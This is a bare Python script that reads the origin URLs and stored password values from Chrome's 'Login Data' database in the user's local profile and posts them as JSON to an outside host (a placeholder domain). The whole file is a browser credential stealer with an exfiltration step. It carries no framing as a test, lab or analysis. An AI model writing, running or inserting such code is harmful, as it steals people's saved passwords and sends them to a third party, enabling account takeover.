import os
import sqlite3

import requests

STORE = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")
rows = sqlite3.connect(STORE).execute("select origin_url, password_value from logins").fetchall()
requests.post("https://example.invalid/", json=rows)
